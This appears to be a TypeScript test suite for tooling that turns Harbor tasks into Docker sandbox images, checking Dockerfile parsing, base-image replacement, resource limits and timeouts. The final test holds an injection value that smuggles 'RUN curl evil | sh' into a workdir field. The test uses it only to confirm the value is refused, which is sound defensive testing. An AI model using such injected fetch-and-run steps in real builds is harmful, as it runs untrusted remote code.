/**
 * How a converted Harbor task's fields reach the engine: its Dockerfile read for bases, working
 * directory and copies (util/dockerfile.ts, with dockerfile-ast), its recipe's FROM replaced and the
 * sandbox's git layer added (sandbox/images/recipeImage.ts), its resources in place of the config's
 * sandbox limits and its verifier folder made absolute (sandbox/openSandbox.ts), and its timeouts in
 * the environment's limits (launch/envOptions.ts).
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { experimentConfigSchema } from '../../server/src/config/index.js';
import { defaultSandboxOptions, envOptionsFromConfig } from '../../server/src/launch/index.js';
import type Docker from 'dockerode';
import { buildRecipeImage, sandboxLayer } from '../../server/src/sandbox/images/index.js';
import { sandboxSpecForTask } from '../../server/src/sandbox/index.js';
import { taskEntrySchema } from '../../server/src/tasks/index.js';
import { dockerfileFacts, replaceBaseImages } from '../../server/src/util/dockerfile.js';

const multiStage = `# syntax=docker/dockerfile:1
ARG PY=3.11
FROM python:\${PY}-slim AS build
RUN pip wheel . -w /wheels
FROM ubuntu:24.04
FROM build AS final
WORKDIR /srv
WORKDIR app
COPY ["a b.txt", "data/"]
COPY --chown=1000 src/ \\
     ./src/
RUN echo done
`;

test("reads the bases (not earlier stages), the final stage's working directory, copies and RUN steps", () => {
  const facts = dockerfileFacts(multiStage);
  assert.deepEqual(
    facts.bases.map((b) => [b.line, b.image]),
    [
      [3, 'python:${PY}-slim'],
      [5, 'ubuntu:24.04'],
    ],
  );
  assert.equal(facts.workdir, '/srv/app');
  assert.deepEqual(
    facts.copies.map((c) => [c.line, c.sources, c.dest, c.workdir, c.flags]),
    [
      [9, ['a b.txt'], 'data/', '/srv/app', []],
      [10, ['src/'], './src/', '/srv/app', ['chown']],
    ],
  );
  assert.equal(facts.runs, 1, "the final stage's RUN only");
  assert.equal(dockerfileFacts('FROM x\nWORKDIR $HOME/app\n').workdirUnknown, true);
});

test('replaces every base image and keeps stage names, comments and the rest', () => {
  const replaced = replaceBaseImages(multiStage, 'graph-planner/base:latest');
  assert.match(replaced, /^FROM graph-planner\/base:latest AS build$/m);
  assert.match(replaced, /^FROM graph-planner\/base:latest$/m);
  assert.match(replaced, /^FROM build AS final$/m);
  assert.equal(replaced.replace(/graph-planner\/base:latest/g, '').length, multiStage.replace('python:${PY}-slim', '').replace('ubuntu:24.04', '').length);
});

test("the sandbox's layer checks for git, commits the working directory and ends in it", () => {
  const layer = sandboxLayer('/app dir');
  assert.match(layer, /command -v git .*exit 1/);
  assert.match(layer, /mkdir -p '\/app dir' && cd '\/app dir'/);
  assert.match(layer, /commit -q --no-verify --allow-empty/);
  assert.match(layer, /\nWORKDIR \/app dir\n$/);
});

const harborTask = taskEntrySchema.parse({
  task_id: 'h',
  episode_timeout: 180,
  sandbox: { docker_image: 'graph-planner/harbor-h:latest', workdir: '/app', resources: { cpus: 4, memory_mb: 512, storage_mb: 100 } },
  verifier: { tests: 'harbor/h/task/tests', timeout_sec: 45 },
});

test("a task's resources replace the config's cpus and memory, and its verifier folder resolves against the dataset's folder", () => {
  const spec = sandboxSpecForTask(harborTask, { ...defaultSandboxOptions(), limits: { cpus: 2, memoryBytes: 8 * 1024 ** 3, pids: 100 }, baseDir: '/data/set' });
  assert.deepEqual(spec.limits, { cpus: 4, memoryBytes: 512 * 1024 * 1024, pids: 100 });
  assert.equal(spec.verifierTests, '/data/set/harbor/h/task/tests');
  const plain = sandboxSpecForTask(taskEntrySchema.parse({ task_id: 'p', sandbox: { docker_image: 'x', workdir: '/w' } }), {
    ...defaultSandboxOptions(),
    limits: { cpus: 2, memoryBytes: null, pids: null },
  });
  assert.equal(plain.limits.cpus, 2);
  assert.equal(plain.verifierTests, undefined);
});

test("the verifier's timeout replaces the test timeout, and the task's episode timeout lowers the config's, never raises it", () => {
  const short = envOptionsFromConfig(experimentConfigSchema.parse({ env: { episode_timeout: 3600 } }), harborTask).limits;
  assert.equal(short.testTimeoutMs, 45_000);
  assert.equal(short.episodeTimeoutMs, 180_000);
  const long = envOptionsFromConfig(experimentConfigSchema.parse({ env: { episode_timeout: 60 } }), harborTask).limits;
  assert.equal(long.episodeTimeoutMs, 60_000);
});

test('a workdir or base image that would add lines to the Dockerfile is refused before anything is built', async () => {
  const docker = {} as Docker;
  const input = { tag: 'graph-planner/harbor-x:latest', task: 'x', dockerfile: '/nowhere/Dockerfile' };
  await assert.rejects(
    buildRecipeImage(docker, { ...input, workdir: '/app\nRUN curl evil | sh' }),
    /workdir "\/app\\nRUN curl evil \| sh" is not an absolute path without control characters/,
  );
  await assert.rejects(buildRecipeImage(docker, { ...input, workdir: 'app' }), /not an absolute path/);
  await assert.rejects(
    buildRecipeImage(docker, { ...input, workdir: '/app', baseImage: 'base\nRUN x' }),
    /base_image "base\\nRUN x" is not an image reference/,
  );
});
